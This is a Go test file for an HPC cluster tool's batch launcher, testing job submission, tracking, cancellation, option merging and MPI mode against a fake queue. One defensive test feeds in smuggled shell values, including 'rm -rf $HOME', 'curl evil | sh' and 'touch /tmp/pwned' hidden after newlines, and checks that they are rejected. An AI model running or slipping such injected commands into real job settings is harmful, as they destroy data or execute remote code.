package launchers

import (
	"context"
	"fmt"
	"log/slog"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/spf13/pflag"

	"github.com/ipp-hpc/ipp/internal/protocol"
)

// queueRunner is an in-process batch system for the launcher's logic: tsub
// submits, tq lists "<id> <state> <reason>", tdel cancels. Tests steer
// job states and failures directly.
type queueRunner struct {
	mu      sync.Mutex
	next    int
	jobs    map[string]string // id -> state code (PD, R, CD, F, CA), absent = forgotten
	scripts map[string]string
	env     map[string][]string
	reject  string // submit fails with this stderr after this many jobs
	after   int
	calls   []string
}

func newQueueRunner() *queueRunner {
	return &queueRunner{next: 100, jobs: map[string]string{}, scripts: map[string]string{}, env: map[string][]string{}}
}

func (q *queueRunner) Run(_ context.Context, c Command) (Result, error) {
	q.mu.Lock()
	defer q.mu.Unlock()
	q.calls = append(q.calls, c.String())
	switch c.Path {
	case "tsub":
		if q.reject != "" && len(q.scripts) >= q.after {
			return Result{Stderr: []byte(q.reject), ExitCode: 1}, &CommandError{Command: c.String(), ExitCode: 1, Stderr: q.reject}
		}
		b, err := os.ReadFile(c.Args[0])
		if err != nil {
			return Result{}, err
		}
		q.next++
		id := fmt.Sprint(q.next)
		q.jobs[id], q.scripts[id], q.env[id] = "PD", string(b), c.Env
		return Result{Stdout: []byte("tsub: queue is busy, 3 jobs ahead\nJob " + id + " accepted\n")}, nil
	case "tq":
		var out strings.Builder
		for _, id := range c.Args {
			if st, ok := q.jobs[id]; ok {
				fmt.Fprintf(&out, "%s %s %s\n", id, st, "Resources")
			}
		}
		return Result{Stdout: []byte(out.String())}, nil
	case "tdel":
		for _, id := range c.Args {
			if st, ok := q.jobs[id]; ok && (st == "PD" || st == "R") {
				q.jobs[id] = "CA"
			}
		}
		return Result{}, nil
	}
	return Result{}, fmt.Errorf("queueRunner: unknown command %s", c)
}

func (q *queueRunner) Start(Command) (Process, error) { return nil, fmt.Errorf("not here") }
func (q *queueRunner) Attach(int, uint64, string) (Process, error) {
	return nil, ErrNotRunning
}

func (q *queueRunner) set(id, st string) {
	q.mu.Lock()
	defer q.mu.Unlock()
	if st == "" {
		delete(q.jobs, id)
		return
	}
	q.jobs[id] = st
}

var testJobID = regexp.MustCompile(`(?m)^Job (\d+) accepted$`)

func testDialect() *Dialect {
	states := map[string]JobState{"PD": JobPending, "R": JobRunning, "CD": JobCompleted, "F": JobFailed, "CA": JobCancelled}
	return &Dialect{
		Name: "testq", Title: "TestQ", Directive: "#TQ",
		Submit: func(path, _ string) Command { return Command{Path: "tsub", Args: []string{path}} },
		ParseSubmit: func(out string) (string, error) {
			m := testJobID.FindStringSubmatch(out)
			if m == nil {
				return "", fmt.Errorf("no job id in %q", out)
			}
			return m[1], nil
		},
		Query: func(ids []string) Command { return Command{Path: "tq", Args: ids} },
		ParseQuery: func(res Result, err error, ids []string) (map[string]JobStatus, error) {
			if err != nil {
				return nil, err
			}
			out := map[string]JobStatus{}
			for line := range strings.Lines(string(res.Stdout)) {
				f := strings.Fields(line)
				out[f[0]] = JobStatus{ID: f[0], State: states[f[1]], Raw: f[1], Reason: f[2]}
			}
			return out, nil
		},
		Cancel: func(ids []string) Command { return Command{Path: "tdel", Args: ids} },
	}
}

func batchTestConfig(t *testing.T, q *queueRunner, conn string) Config {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "profile_b")
	tmpl := filepath.Join(t.TempDir(), "t.tmpl")
	os.WriteFile(tmpl, []byte("#!/bin/sh\n#TQ -n {{.N}} -N {{.Name}}\n{{range $k, $v := .Env}}export {{$k}}={{$v}}\n{{end}}export IPP_ENGINE_ID_BASE={{.IDBase}}\n{{.Command}}\n"), 0o600)
	return Config{
		ProfileDir: dir, ClusterID: "c1", EngineSetID: "s1",
		Command:        []string{"/opt/ipcluster", "engine"},
		ConnectionInfo: []byte(conn),
		Options:        &BatchOptions{EnginesPerJob: 2, Template: tmpl, PollSeconds: 0.001},
		StopGrace:      time.Second,
		Runner:         q,
		Logger:         slog.New(slog.DiscardHandler),
	}
}

const wildcardConn = `{"interface":"tcp://*","location":"127.0.0.1","registration":1,"key":"k","signature_scheme":"hmac-sha256"}`

func TestBatchSubmitTrackStop(t *testing.T) {
	q := newQueueRunner()
	cfg := batchTestConfig(t, q, wildcardConn)
	cfg.EngineIDBase = 10
	b, err := NewBatchLauncher(testDialect(), KindEngines, cfg)
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	if err := b.Start(ctx, 5); err != nil {
		t.Fatal(err)
	}
	if len(q.scripts) != 3 {
		t.Fatalf("%d jobs for 5 engines by 2, want 3", len(q.scripts))
	}
	for id, base := range map[string]string{"101": "10", "102": "12", "103": "14"} {
		if !strings.Contains(q.scripts[id], "export IPP_ENGINE_ID_BASE="+base+"\n") {
			t.Errorf("job %s script lacks id base %s:\n%s", id, base, q.scripts[id])
		}
		if !slices.Contains(q.env[id], protocol.EnvConnectionInfo+"="+wildcardConn) {
			t.Errorf("job %s not submitted with the connection info in its environment", id)
		}
	}
	if !strings.Contains(q.scripts["103"], "#TQ -n 1 -N ipengine-c1") || !strings.Contains(q.scripts["101"], "/opt/ipcluster engine\n") ||
		!strings.Contains(q.scripts["101"], "export IPP_CLUSTER_ID=c1") {
		t.Errorf("script:\n%s", q.scripts["103"])
	}
	// Fresh answers from the queue, whatever the clock says.
	fresh := func(l *BatchLauncher) Status { l.refresh(ctx, true); return l.Status() }
	st := fresh(b)
	if st.State != StateRunning || st.Running != 0 || st.Exited != 0 || st.Total != 5 || !strings.Contains(st.Detail, "job 101 PENDING (Resources)") {
		t.Errorf("pending status %+v", st)
	}
	q.set("101", "R")
	q.set("102", "R")
	if st := fresh(b); st.Running != 4 || st.Exited != 0 {
		t.Errorf("running status %+v", st)
	}
	// A job that vanishes from the queue after being seen is finished.
	q.set("103", "")
	if st := fresh(b); st.Exited != 1 || st.Jobs[2].State != JobGone {
		t.Errorf("after job 103 left the queue: %+v", st)
	}
	// The handle reattaches in another process and sees the same jobs.
	raw, err := b.MarshalState()
	if err != nil {
		t.Fatal(err)
	}
	rcfg := cfg
	rcfg.Options = nil
	other, err := restoreBatch(testDialect(), KindEngines, rcfg, raw)
	if err != nil {
		t.Fatal(err)
	}
	if st := other.Status(); st.Running != 4 || len(st.Jobs) != 3 {
		t.Errorf("restored status %+v", st)
	}
	if err := other.Stop(ctx); err != nil {
		t.Fatal(err)
	}
	for id, st := range q.jobs {
		if st == "PD" || st == "R" {
			t.Errorf("job %s left %s after stop", id, st)
		}
	}
	if st := other.Status(); st.State != StateAfter || st.ExitCode != 1 {
		t.Errorf("after stop: %+v", st)
	}
	if left, _ := filepath.Glob(filepath.Join(cfg.ProfileDir, "log", "*")); len(left) != 1 {
		// The script of job 103, which ended on its own, stays.
		t.Errorf("files left after stop: %v", left)
	}
	q.set("101", "")
	q.set("102", "")
	if _, err := restoreBatch(testDialect(), KindEngines, rcfg, raw); err == nil {
		t.Error("restored a launcher whose jobs are all gone")
	}
}

func TestBatchRejectedSubmitCancelsEarlierJobs(t *testing.T) {
	q := newQueueRunner()
	q.reject, q.after = "tsub: error: invalid partition specified: nosuch", 1
	b, err := NewBatchLauncher(testDialect(), KindEngines, batchTestConfig(t, q, wildcardConn))
	if err != nil {
		t.Fatal(err)
	}
	err = b.Start(context.Background(), 4)
	if err == nil || !strings.Contains(err.Error(), "invalid partition specified: nosuch") {
		t.Fatalf("rejected submission: %v", err)
	}
	if q.jobs["101"] != "CA" {
		t.Errorf("first job left %q after the second was rejected", q.jobs["101"])
	}
}

func TestBatchBadTemplateSubmitsNothing(t *testing.T) {
	q := newQueueRunner()
	cfg := batchTestConfig(t, q, wildcardConn)
	bad := filepath.Join(t.TempDir(), "bad.tmpl")
	os.WriteFile(bad, []byte("#!/bin/sh\n{{.Partition}}\n"), 0o600)
	cfg.Options.(*BatchOptions).Template = bad
	b, _ := NewBatchLauncher(testDialect(), KindEngines, cfg)
	err := b.Start(context.Background(), 2)
	if err == nil || !strings.Contains(err.Error(), "Partition") {
		t.Fatalf("template with an unknown field: %v", err)
	}
	if len(q.calls) != 0 {
		t.Errorf("commands run for a broken template: %v", q.calls)
	}
}

func TestBatchRefusesLoopbackController(t *testing.T) {
	q := newQueueRunner()
	loop := `{"interface":"tcp://127.0.0.1","location":"login1","registration":1,"key":"k","signature_scheme":"hmac-sha256"}`
	d := testDialect()
	d.ComputeHosts = func(context.Context, Runner, string) ([]string, error) { return []string{"node001", "node002"}, nil }
	b, _ := NewBatchLauncher(d, KindEngines, batchTestConfig(t, q, loop))
	err := b.Start(context.Background(), 2)
	if err == nil || !strings.Contains(err.Error(), "--ip='*'") || !strings.Contains(err.Error(), "node001") {
		t.Fatalf("loopback controller, remote nodes: %v", err)
	}
	if len(q.scripts) != 0 {
		t.Error("jobs submitted against a loopback controller")
	}
	// Unknown hosts are assumed remote.
	d.ComputeHosts = nil
	b, _ = NewBatchLauncher(d, KindEngines, batchTestConfig(t, q, loop))
	if err := b.Start(context.Background(), 2); err == nil {
		t.Fatal("loopback controller accepted with unknown compute hosts")
	}
	// Every compute host is this one: loopback works.
	self, _ := os.Hostname()
	d.ComputeHosts = func(context.Context, Runner, string) ([]string, error) { return []string{self, "localhost"}, nil }
	b, _ = NewBatchLauncher(d, KindEngines, batchTestConfig(t, q, loop))
	if err := b.Start(context.Background(), 2); err != nil {
		t.Fatalf("single-node system refused: %v", err)
	}
	_ = b.Stop(context.Background())
	// A batch controller without --ip would listen where nobody reaches.
	d.ComputeHosts = nil
	ccfg := batchTestConfig(t, q, "")
	c, _ := NewBatchLauncher(d, KindController, ccfg)
	if err := c.Start(context.Background(), 1); err == nil || !strings.Contains(err.Error(), "--ip='*'") {
		t.Fatalf("batch controller on loopback: %v", err)
	}
	ccfg.Args = []string{"--ip=*"}
	c, _ = NewBatchLauncher(d, KindController, ccfg)
	if err := c.Start(context.Background(), 1); err != nil {
		t.Fatal(err)
	}
	_ = c.Stop(context.Background())
}

// TestBatchReachabilityQueueFallback: a queue whose hosts cannot be
// listed (misspelt) is judged by all the system's hosts, so the
// scheduler's own answer to the submission is what the user sees; the
// scheduler's commands missing from PATH name the submit command.
func TestBatchReachabilityQueueFallback(t *testing.T) {
	q := newQueueRunner()
	loop := `{"interface":"tcp://127.0.0.1","location":"login1","registration":1,"key":"k","signature_scheme":"hmac-sha256"}`
	self, _ := os.Hostname()
	d := testDialect()
	var asked []string
	d.ComputeHosts = func(_ context.Context, _ Runner, queue string) ([]string, error) {
		asked = append(asked, queue)
		if queue != "" {
			return nil, fmt.Errorf("no nodes in partition %q", queue)
		}
		return []string{self}, nil
	}
	cfg := batchTestConfig(t, q, loop)
	cfg.Options.(*BatchOptions).Queue = "nosuch"
	b, _ := NewBatchLauncher(d, KindEngines, cfg)
	if err := b.Start(context.Background(), 1); err != nil {
		t.Fatalf("misspelt queue on a single-node system: %v", err)
	}
	_ = b.Stop(context.Background())
	if !slices.Equal(asked, []string{"nosuch", ""}) || len(q.scripts) != 1 {
		t.Errorf("hosts asked for queues %q, %d jobs submitted; want the queue, then all hosts, then the submission", asked, len(q.scripts))
	}

	d.ComputeHosts = func(context.Context, Runner, string) ([]string, error) {
		return nil, &exec.Error{Name: "tinfo", Err: exec.ErrNotFound}
	}
	q = newQueueRunner()
	b, _ = NewBatchLauncher(d, KindEngines, batchTestConfig(t, q, loop))
	err := b.Start(context.Background(), 1)
	if err == nil || !strings.Contains(err.Error(), "tsub is needed") || !strings.Contains(err.Error(), "not on PATH") {
		t.Fatalf("scheduler commands missing: %v", err)
	}
	if len(q.scripts) != 0 {
		t.Error("a job was submitted without the scheduler's commands")
	}
}

func TestBatchSignalUnsupported(t *testing.T) {
	b, _ := NewBatchLauncher(testDialect(), KindEngines, batchTestConfig(t, newQueueRunner(), wildcardConn))
	if err := b.Signal(syscall.SIGINT); err == nil || !strings.Contains(err.Error(), "TestQ cannot") {
		t.Errorf("signal without a signal command: %v", err)
	}
}

func TestBatchOptionsMerge(t *testing.T) {
	rec := []byte(`{"queue":"debug","walltime":"1:00:00","engines-per-job":8}`)
	given := &BatchOptions{Queue: "ignored", Walltime: "2:00:00"}
	o, err := MergeOptions("testq-missing", rec, given, func(k string) bool { return k == "walltime" })
	if err == nil {
		t.Fatalf("unknown launcher merged: %+v", o)
	}
	catalog = append(catalog, batchEntry(testDialect(), "test"))
	defer func() { catalog = catalog[:len(catalog)-1] }()
	o, err = MergeOptions("testq", rec, given, func(k string) bool { return k == "walltime" })
	if err != nil {
		t.Fatal(err)
	}
	if bo := o.(*BatchOptions); bo.Queue != "debug" || bo.Walltime != "2:00:00" || bo.EnginesPerJob != 8 {
		t.Errorf("merged %+v", bo)
	}
}

// TestOptionsFlagNames: every setting of every launcher has a flag of its
// json name (or an alias annotated with it), which MergeOptions relies on.
func TestOptionsFlagNames(t *testing.T) {
	for _, e := range catalog {
		if e.Options == nil {
			continue
		}
		fs := pflag.NewFlagSet(e.Name, pflag.ContinueOnError)
		o := e.Options()
		o.BindFlags(fs)
		for key := range jsonKeys(o) {
			if fs.Lookup(key) == nil {
				t.Errorf("%s: setting %q has no flag of that name", e.Name, key)
			}
		}
	}
	// A flag given through its alias counts as the setting.
	fs := pflag.NewFlagSet("start", pflag.ContinueOnError)
	of := BindOptionsFlags(fs)
	if err := fs.Parse([]string{"--partition", "gpu", "--walltime", "5"}); err != nil {
		t.Fatal(err)
	}
	o, err := of.Merged("slurm", []byte(`{"queue":"debug","account":"proj","walltime":"1"}`))
	if err != nil {
		t.Fatal(err)
	}
	if bo := o.(*BatchOptions); bo.Queue != "gpu" || bo.Account != "proj" || bo.Walltime != "5" {
		t.Errorf("merged %+v", bo)
	}
	if !of.Given("sge") || of.Given("mpiexec") {
		t.Error("Given disagrees with the flags")
	}
}

// TestBatchScriptInjection is what a careless or hostile value would do:
// a newline in a one-line setting would start a shell command in the job
// script. Nothing is submitted, and the script files are private.
func TestBatchScriptInjection(t *testing.T) {
	for name, mod := range map[string]func(*BatchOptions){
		"queue":     func(o *BatchOptions) { o.Queue = "debug\nrm -rf $HOME" },
		"job-name":  func(o *BatchOptions) { o.JobName = "x\r\ncurl evil | sh" },
		"directive": func(o *BatchOptions) { o.Directives = []string{"#TQ -x\ntouch /tmp/pwned"} },
		"foreign":   func(o *BatchOptions) { o.Directives = []string{"touch /tmp/pwned"} },
	} {
		q := newQueueRunner()
		cfg := batchTestConfig(t, q, wildcardConn)
		mod(cfg.Options.(*BatchOptions))
		b, _ := NewBatchLauncher(testDialect(), KindEngines, cfg)
		if err := b.Start(context.Background(), 1); err == nil {
			t.Errorf("%s: injected value accepted", name)
		}
		if len(q.calls) != 0 {
			t.Errorf("%s: commands run: %v", name, q.calls)
		}
	}
	q := newQueueRunner()
	cfg := batchTestConfig(t, q, wildcardConn)
	b, _ := NewBatchLauncher(testDialect(), KindEngines, cfg)
	if err := b.Start(context.Background(), 1); err != nil {
		t.Fatal(err)
	}
	defer b.Stop(context.Background())
	fi, err := os.Stat(b.jobs[0].Script)
	if err != nil || fi.Mode().Perm()&0o077 != 0 {
		t.Errorf("job script %s mode %v (%v): others can read it", b.jobs[0].Script, fi.Mode(), err)
	}
}

// TestBatchMPIMode: --mpi turns an array system's job into one MPI job
// (mpiexec -n N in the template's Launch), and is refused where it means
// nothing (Slurm's engines are one srun step already) or cannot work.
func TestBatchMPIMode(t *testing.T) {
	q := newQueueRunner()
	cfg := batchTestConfig(t, q, wildcardConn)
	tmpl := filepath.Join(t.TempDir(), "mpi.tmpl")
	os.WriteFile(tmpl, []byte("#!/bin/sh\n{{if .Launch}}#TQ slots {{.N}}{{else}}#TQ array 1-{{.N}}{{end}}\n{{with .Launch}}{{.}} {{end}}{{.Command}}\n"), 0o600)
	o := cfg.Options.(*BatchOptions)
	o.Template, o.MPI, o.EnginesPerJob = tmpl, true, 0
	d := testDialect()
	d.Array = true
	b, _ := NewBatchLauncher(d, KindEngines, cfg)
	if err := b.Start(context.Background(), 3); err != nil {
		t.Fatal(err)
	}
	defer b.Stop(context.Background())
	if got := q.scripts["101"]; got != "#!/bin/sh\n#TQ slots 3\nmpiexec -n 3 /opt/ipcluster engine\n" {
		t.Errorf("MPI job script:\n%s", got)
	}
	for _, name := range []string{"slurm", "htcondor"} {
		d := *testDialect()
		d.Name, d.Array = name, name == "htcondor"
		b, _ := NewBatchLauncher(&d, KindEngines, batchTestConfig(t, newQueueRunner(), wildcardConn))
		b.opts.MPI = true
		if err := b.Start(context.Background(), 2); err == nil || !strings.Contains(err.Error(), "--mpi") {
			t.Errorf("%s --mpi: %v", name, err)
		}
	}
}
